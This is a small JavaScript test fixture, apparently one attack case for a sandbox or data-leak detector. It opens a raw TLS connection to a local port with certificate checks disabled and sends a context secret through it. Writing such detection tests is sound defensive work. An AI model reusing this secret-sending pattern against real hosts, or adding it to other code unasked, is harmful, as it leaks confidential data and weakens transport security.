// Raw tls.connect.
import tls from 'node:tls';
export const meta = { kind: 'network', evidence: 'tls' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    const socket = tls.connect({ host: '127.0.0.1', port: ctx.tlsPort, rejectUnauthorized: false }, () => socket.end(ctx.secret));
    socket.on('error', reject);
    socket.on('close', () => resolve('sent'));
  });
}
